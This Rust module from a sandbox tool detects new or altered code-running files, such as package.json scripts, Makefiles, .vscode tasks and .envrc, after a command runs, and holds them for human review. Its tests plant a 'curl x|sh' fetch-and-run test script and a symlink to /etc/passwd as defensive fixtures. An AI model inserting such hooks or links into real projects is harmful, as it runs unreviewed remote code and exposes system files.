//! What a sandboxed run must not leave in the project for the host to run: new names that run
//! code somewhere, and changes to the files that already do. Both are held for a person after
//! the run, never left in place.
//!
//! The hard question: which change would make some program run the command's code at the
//! person's next ordinary step? Every agent, editor, CI system and hook manager reads its own
//! dot-name (`.qwen/`, `.windsurf/`, `.husky/`, `.envrc`) or a known name (`Jenkinsfile`,
//! `opencode.json`, `Makefile`), in the root or in any folder below it (direnv reads the
//! `.envrc` of every folder a person enters, a monorepo's packages each have a `package.json`),
//! and new ones appear every month. So:
//! - a **new dot-name** anywhere in the project is held unless a data list ([`HARMLESS_NEW`], a
//!   reason each: caches, build output, ignore files) calls it harmless, and so is a new name
//!   the gate's code-running list names (`CODE_CONFIG`: what a file tool's write asks about);
//! - an **existing code-running file** (a `CODE_CONFIG` name, or a file in a code-running
//!   folder such as `.vscode/`) that the run changed is put back as it was, and the command's
//!   version is held;
//! - inside trees that package managers and builds fill ([`in_built_tree`]: `node_modules`,
//!   `target`, a virtual environment …) nothing is judged: what is there is rebuilt, and the
//!   programs there that shadow a system one are checked apart (`crate::shadow`).
//!
//! [`Guard::snapshot`] keeps, before the run, the names the project's walk found (see
//! `crate::exec`) and the content of each code-running file (one too big to keep is made
//! read-only for the run instead); after the run, the check for new repositories (see
//! `crate::nested_git`) asks [`Guard::is_new_held`] about each entry it reads in a folder that
//! changed, and [`Guard::changed`] names the kept files the run changed. The front end moves
//! both into a staged change (`wicket staged`), which a person can look at and apply.

use std::collections::HashSet;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

/// New dot-names that hold only data a tool rebuilds, with why each is harmless.
pub const HARMLESS_NEW: &[(&str, &str)] = &[
    (".pytest_cache", "pytest's cache of test results"),
    (".mypy_cache", "mypy's type cache"),
    (".ruff_cache", "ruff's lint cache"),
    (".hypothesis", "Hypothesis's example database"),
    (".coverage", "coverage.py's data file"),
    (".nyc_output", "nyc's coverage data"),
    (".tox", "tox's virtual environments (built from tox.ini, which is guarded)"),
    (".nox", "nox's virtual environments (built from noxfile.py, which is guarded)"),
    (".venv", "a virtual environment; a program in it that shadows a system one is checked apart"),
    (".next", "Next.js build output"),
    (".nuxt", "Nuxt build output"),
    (".svelte-kit", "SvelteKit build output"),
    (".turbo", "Turborepo's cache"),
    (".parcel-cache", "Parcel's cache"),
    (".angular", "Angular CLI's cache"),
    (".docusaurus", "Docusaurus build output"),
    (".dart_tool", "Dart's build output"),
    (".gradle", "Gradle's per-project cache"),
    (".eslintcache", "ESLint's cache"),
    (".stylelintcache", "stylelint's cache"),
    (".cache", "a tool's cache folder"),
    (".DS_Store", "macOS Finder's folder view"),
    (".gitignore", "git's ignore list (data: it runs nothing)"),
    (".dockerignore", "docker's ignore list"),
    (".npmignore", "npm's ignore list"),
    (".prettierignore", "prettier's ignore list"),
    (".eslintignore", "ESLint's ignore list"),
];

/// Folders whose content a package manager or a build makes and remakes: nothing below them is
/// judged. A reason each.
pub const BUILT_TREES: &[(&str, &str)] = &[
    ("node_modules", "packages npm, pnpm or yarn installed"),
    ("bower_components", "packages bower installed"),
    ("site-packages", "packages pip installed"),
    ("dist-packages", "packages pip installed"),
    ("__pycache__", "Python's compiled modules"),
    ("target", "cargo's and Maven's build output"),
];

/// The most bytes of one code-running file kept before a run; a bigger one is read-only for the
/// run instead.
pub const MAX_KEPT_FILE: u64 = 1 << 20;
/// The most bytes of code-running files kept before a run in all; past it, files are read-only
/// for the run instead.
pub const MAX_KEPT_TOTAL: u64 = 64 << 20;
/// The most entries read inside one code-running folder (`.vscode/`, `.github/`); a bigger one
/// is read-only for the run instead.
pub const MAX_FOLDER_ENTRIES: usize = 10_000;

/// A code-running file as it was before the run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Before {
    /// A file: its bytes and permission bits.
    File {
        /// The content.
        bytes: Vec<u8>,
        /// The permission bits.
        mode: u32,
    },
    /// A link: where it led.
    Link(PathBuf),
}

/// A code-running file kept before the run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Kept {
    /// Its path.
    pub path: PathBuf,
    /// What it was.
    pub before: Before,
    /// Its inode, size, and change time in nanoseconds: equal after the run (and not changed
    /// within [`crate::scan_cache::RACY`] of the snapshot), it was not touched.
    stat: (u64, u64, i128),
}

/// What a snapshot has noted so far: bytes of files to keep, the files themselves (read at the
/// end), and the paths too big to keep.
#[derive(Default)]
struct Notes {
    total: u64,
    files: Vec<(PathBuf, std::fs::Metadata)>,
    too_big: Vec<PathBuf>,
}

/// Note a code-running file (or link) to keep, within the budget; its reading is
/// [`Guard::read_noted`]'s.
fn keep(p: &Path, meta: std::fs::Metadata, notes: &mut Notes) {
    if meta.is_file() {
        if meta.len() > MAX_KEPT_FILE || notes.total + meta.len() > MAX_KEPT_TOTAL {
            notes.too_big.push(p.to_path_buf());
            return;
        }
        notes.total += meta.len();
    } else if !meta.file_type().is_symlink() {
        return;
    }
    notes.files.push((p.to_path_buf(), meta));
}

/// What the check after a run needs, made with the exec policy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Guard {
    root: PathBuf,
    /// Entries that may run code somewhere, there at the start: never new.
    known: HashSet<PathBuf>,
    /// The code-running files, kept.
    kept: Vec<Kept>,
    /// Folders the sandbox keeps read-only: nothing in them is new.
    frozen: Vec<PathBuf>,
    /// When the snapshot was taken, in nanoseconds since the epoch.
    taken_ns: i128,
}

/// The built-in lists, made once.
fn lists() -> Option<&'static wicket_policy::lists::BuiltinLists> {
    static LISTS: OnceLock<Option<wicket_policy::lists::BuiltinLists>> = OnceLock::new();
    LISTS.get_or_init(|| wicket_policy::lists::BuiltinLists::new().ok()).as_ref()
}

fn now_ns() -> i128 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map(|d| i128::try_from(d.as_nanos()).unwrap_or(i128::MAX))
        .unwrap_or(0)
}

fn stat_of(m: &std::fs::Metadata) -> (u64, u64, i128) {
    use std::os::unix::fs::MetadataExt;
    (m.ino(), m.len(), i128::from(m.ctime()) * 1_000_000_000 + i128::from(m.ctime_nsec()))
}

/// Is `path` (below `root`) a code-running file, or inside a code-running folder? Matched from
/// the root down, so that where the project lies plays no part.
fn is_code(root: &Path, path: &Path, lists: &wicket_policy::lists::BuiltinLists) -> bool {
    let rel = path.strip_prefix(root).unwrap_or(path);
    lists.classify(&format!("/{}", rel.to_string_lossy())).config.is_some()
}

/// Is the folder `path` (below `root`) a code-running one (what is inside it runs, as in
/// `.vscode/`)?
fn is_code_folder(root: &Path, path: &Path, lists: &wicket_policy::lists::BuiltinLists) -> bool {
    let rel = path.strip_prefix(root).unwrap_or(path);
    lists.classify(&format!("/{}/x", rel.to_string_lossy())).config.is_some()
}

impl Guard {
    /// Keep, before a run, what the check after it compares against. `guarded`: what the walk
    /// found that may run code (dot-names, names the code-running list may match);
    /// `read_only(p)`: the sandbox already keeps `p` read-only (nothing to keep). Returns the
    /// guard and the paths too big to keep, which the caller makes read-only for the run.
    pub fn snapshot(root: &Path, guarded: &[PathBuf], read_only: &dyn Fn(&Path) -> bool) -> (Guard, Vec<PathBuf>) {
        let mut guard = Guard {
            root: root.to_path_buf(),
            known: HashSet::new(),
            kept: Vec::new(),
            frozen: Vec::new(),
            taken_ns: now_ns(),
        };
        let mut notes = Notes::default();
        let Some(lists) = lists() else {
            // Without the lists nothing can be judged: every new name is held, nothing kept.
            return (guard, notes.too_big);
        };
        for g in guarded {
            guard.known.insert(g.clone());
            if in_built_tree(root, g) {
                continue;
            }
            let Ok(meta) = std::fs::symlink_metadata(g) else { continue };
            if read_only(g) {
                if meta.is_dir() {
                    guard.frozen.push(g.clone());
                }
                continue;
            }
            if meta.is_dir() {
                if is_code_folder(root, g, lists) {
                    guard.keep_folder(g, read_only, &mut notes);
                }
            } else if is_code(root, g, lists) {
                keep(g, meta, &mut notes);
            }
        }
        guard.read_noted(&mut notes);
        (guard, notes.too_big)
    }

    /// Keep every file below a code-running folder; a folder too big to read is read-only.
    fn keep_folder(&mut self, dir: &Path, read_only: &dyn Fn(&Path) -> bool, notes: &mut Notes) {
        let mut stack = vec![dir.to_path_buf()];
        let mut seen = 0usize;
        let mut found: Vec<(PathBuf, std::fs::Metadata)> = Vec::new();
        while let Some(d) = stack.pop() {
            let Ok(entries) = std::fs::read_dir(&d) else {
                // Unreadable: the walk hides it (see `crate::exec`); nothing to keep.
                continue;
            };
            for e in entries.flatten() {
                seen += 1;
                if seen > MAX_FOLDER_ENTRIES {
                    notes.too_big.push(dir.to_path_buf());
                    return;
                }
                let p = e.path();
                let Ok(m) = std::fs::symlink_metadata(&p) else { continue };
                if m.is_dir() {
                    stack.push(p.clone());
                }
                found.push((p, m));
            }
        }
        for (p, m) in found {
            self.known.insert(p.clone());
            if !m.is_dir() && !read_only(&p) {
                keep(&p, m, notes);
            }
        }
    }

    /// Read the files [`keep`] noted (after the budget is settled, so the reads are the last
    /// step). A file that cannot be read is too big to keep (read-only for the run).
    fn read_noted(&mut self, notes: &mut Notes) {
        use std::os::unix::fs::PermissionsExt;
        let noted = std::mem::take(&mut notes.files);
        let read = |(p, meta): &(PathBuf, std::fs::Metadata)| -> Result<Kept, PathBuf> {
            let before = if meta.file_type().is_symlink() {
                Before::Link(std::fs::read_link(p).map_err(|_| p.clone())?)
            } else {
                let bytes = std::fs::read(p).map_err(|_| p.clone())?;
                Before::File { bytes, mode: meta.permissions().mode() & 0o777 }
            };
            Ok(Kept { path: p.clone(), before, stat: stat_of(meta) })
        };
        let results: Vec<Result<Kept, PathBuf>> = noted.iter().map(read).collect();
        for r in results {
            match r {
                Ok(k) => self.kept.push(k),
                Err(p) => notes.too_big.push(p),
            }
        }
    }

    /// How many code-running files were kept.
    pub fn kept_count(&self) -> usize {
        self.kept.len()
    }

    /// The project root.
    pub fn root(&self) -> &Path {
        &self.root
    }

    /// After the run: is the entry at `path` new, and one that runs code somewhere, so that it
    /// must be held? Reads nothing but the name; most names are settled by a look at the name.
    pub fn is_new_held(&self, path: &Path) -> bool {
        let Ok(rel) = path.strip_prefix(&self.root) else { return false };
        let Some(lists) = lists() else {
            return !self.known.contains(path) && !in_built_tree(&self.root, path);
        };
        let Some(name) = rel.file_name() else { return false };
        let lname = name.to_string_lossy().to_lowercase();
        // Code-running folders are dot-names but for Gradle's wrapper.
        let in_code_folder = || {
            rel.components().rev().skip(1).any(|c| {
                let c = c.as_os_str().as_encoded_bytes();
                c.first() == Some(&b'.') || c.eq_ignore_ascii_case(b"wrapper")
            })
        };
        if !(lname.starts_with('.') || lists.config.may_match_name(&lname) || in_code_folder()) {
            return false;
        }
        if self.known.contains(path)
            || in_built_tree(&self.root, path)
            || self.frozen.iter().any(|f| path.starts_with(f))
        {
            return false;
        }
        must_hold(&self.root, path, lists)
    }

    /// After the run: the kept files the run changed (content, kind or link target), with what
    /// they were. A file the run removed is not listed (a removal runs nothing).
    pub fn changed(&self) -> Vec<&Kept> {
        let racy_from = self.taken_ns - i128::from(crate::scan_cache::RACY.as_secs()) * 1_000_000_000;
        self.kept
            .iter()
            .filter(|k| {
                let Ok(meta) = std::fs::symlink_metadata(&k.path) else { return false };
                if stat_of(&meta) == k.stat && k.stat.2 < racy_from {
                    return false;
                }
                match &k.before {
                    Before::Link(t) => std::fs::read_link(&k.path).ok().as_ref() != Some(t),
                    Before::File { bytes, .. } => {
                        !meta.is_file() || std::fs::read(&k.path).map_or(true, |now| now != *bytes)
                    }
                }
            })
            .collect()
    }
}

/// Is `path` inside a tree a package manager or build fills ([`BUILT_TREES`], and the
/// harmless dot-folders of [`HARMLESS_NEW`]), below `root`? The tree's own folder counts.
pub fn in_built_tree(root: &Path, path: &Path) -> bool {
    let Ok(rel) = path.strip_prefix(root) else { return false };
    rel.components().any(|c| {
        let c = c.as_os_str().to_string_lossy();
        BUILT_TREES.iter().any(|(n, _)| c.eq_ignore_ascii_case(n))
            || HARMLESS_NEW.iter().any(|(n, _)| c.eq_ignore_ascii_case(n))
            || c.ends_with(crate::nested_git::QUARANTINE_SUFFIX)
    })
}

/// Does the new entry `p` run code somewhere?
fn must_hold(root: &Path, p: &Path, lists: &wicket_policy::lists::BuiltinLists) -> bool {
    if p.file_name().is_some_and(|n| n == ".git") {
        // Judged by the check for new repositories (see [`crate::nested_git`]).
        return false;
    }
    let Some(name) = p.file_name().and_then(|n| n.to_str()) else {
        // A name that is not text cannot be matched against any list: held.
        return true;
    };
    if HARMLESS_NEW.iter().any(|(h, _)| h.eq_ignore_ascii_case(name)) {
        return false;
    }
    if name.starts_with('.') {
        return true;
    }
    // As a file and as a folder's content (`**/.x/**` patterns match what is inside).
    is_code(root, p, lists) || is_code_folder(root, p, lists)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rel(root: &Path, ps: Vec<PathBuf>) -> Vec<String> {
        ps.iter().map(|p| p.strip_prefix(root).unwrap().to_string_lossy().into_owned()).collect()
    }

    /// What a walk of the project notes (dot-names and names the code-running list may match).
    fn noted(root: &Path) -> Vec<PathBuf> {
        let lists = lists().unwrap();
        let mut out = Vec::new();
        let mut stack = vec![root.to_path_buf()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap().flatten() {
                let name = e.file_name().to_string_lossy().to_lowercase();
                if e.file_type().unwrap().is_dir() {
                    stack.push(e.path());
                }
                if name.starts_with('.') || lists.config.may_match_name(&name) {
                    out.push(e.path());
                }
            }
        }
        out
    }

    #[test]
    fn new_dot_names_and_code_config_are_held_anywhere_caches_and_data_are_not() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        for f in ["README.md", "sub/.vscode/settings.json", "sub/.envrc-old", "pkg/a/package.json"] {
            std::fs::create_dir_all(root.join(f).parent().unwrap()).unwrap();
            std::fs::write(root.join(f), "x").unwrap();
        }
        let (guard, big) = Guard::snapshot(&root, &noted(&root), &|_| false);
        assert!(big.is_empty());
        let new = [
            ".qwen",
            ".someagent-from-2027",
            "sub/.envrc",
            "sub/.vscode/tasks.json",
            "pkg/b/package.json",
            "pkg/b/Makefile",
            "pkg/b/index.js",
            "notes.txt",
            ".pytest_cache",
            "target/.rustc_info.json",
            "node_modules/x/package.json",
            ".venv/lib/x.pth",
            "src/__pycache__/.x",
            ".git",
            "sub/.git.wicket-quarantine",
        ];
        let held: Vec<&str> = new.iter().copied().filter(|p| guard.is_new_held(&root.join(p))).collect();
        assert_eq!(
            held,
            [
                ".qwen",
                ".someagent-from-2027",
                "sub/.envrc",
                "sub/.vscode/tasks.json",
                "pkg/b/package.json",
                "pkg/b/Makefile"
            ]
        );
        // What was there at the start is never new.
        for old in ["sub/.vscode/settings.json", "sub/.envrc-old", "pkg/a/package.json", "sub/.vscode"] {
            assert!(!guard.is_new_held(&root.join(old)), "{old}");
        }
    }

    #[test]
    fn changed_code_files_are_found_with_what_they_were() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        for (f, text) in [
            ("package.json", "{}"),
            ("sub/Makefile", "all:"),
            ("sub/.vscode/tasks.json", "[]"),
            ("same/Makefile", "x"),
            ("gone/Makefile", "x"),
            ("README.md", "x"),
            ("node_modules/x/package.json", "{}"),
        ] {
            std::fs::create_dir_all(root.join(f).parent().unwrap()).unwrap();
            std::fs::write(root.join(f), text).unwrap();
        }
        std::os::unix::fs::symlink("README.md", root.join("CLAUDE.md")).unwrap();
        let ro = root.join("sub/Makefile");
        let (guard, _) = Guard::snapshot(&root, &noted(&root), &|p| p == ro);
        std::fs::write(root.join("package.json"), r#"{"scripts":{"test":"curl x|sh"}}"#).unwrap();
        std::fs::write(root.join("sub/.vscode/tasks.json"), "[1]").unwrap();
        std::fs::write(root.join("same/Makefile"), "x").unwrap();
        std::fs::remove_file(root.join("gone/Makefile")).unwrap();
        std::fs::write(root.join("README.md"), "changed").unwrap();
        std::fs::write(root.join("node_modules/x/package.json"), "{1}").unwrap();
        std::fs::remove_file(root.join("CLAUDE.md")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", root.join("CLAUDE.md")).unwrap();
        let mut changed: Vec<PathBuf> = guard.changed().iter().map(|k| k.path.clone()).collect();
        changed.sort();
        assert_eq!(rel(&root, changed), ["CLAUDE.md", "package.json", "sub/.vscode/tasks.json"]);
        let k = guard.changed().into_iter().find(|k| k.path.ends_with("package.json")).unwrap().clone();
        assert!(matches!(k.before, Before::File { ref bytes, .. } if bytes == b"{}"));
    }

    #[test]
    fn a_file_too_big_to_keep_is_named_for_read_only() {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().canonicalize().unwrap();
        std::fs::write(root.join("Makefile"), vec![b'#'; (MAX_KEPT_FILE + 1) as usize]).unwrap();
        std::fs::write(root.join("package.json"), "{}").unwrap();
        let (guard, big) = Guard::snapshot(&root, &noted(&root), &|_| false);
        assert_eq!(rel(&root, big), ["Makefile"]);
        assert_eq!(guard.kept.len(), 1);
    }
}
